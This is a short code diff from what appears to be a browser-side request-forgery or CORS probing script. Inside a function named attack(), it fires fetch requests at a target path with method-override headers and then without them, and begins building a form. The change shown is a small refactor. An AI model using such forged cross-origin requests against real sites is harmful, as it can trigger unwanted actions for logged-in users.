@@ -51,7 +51,8 @@ async function attack() {
         if (mode === "cors") options.headers = {
           "Content-Type": "application/json", "X-Headroom": "1", "X-HTTP-Method-Override": "POST" };
         all.push(fetch(target + path, options).then(note(path, options), () => {}));
-        all.push(fetch(target + path, { ...options, headers: {} }).then(note(path, options), () => {}));
+        const plain = { ...options, headers: {} };
+        all.push(fetch(target + path, plain).then(note(path, options), () => {}));
       }
     }
     const form = Object.assign(document.createElement("form"), {
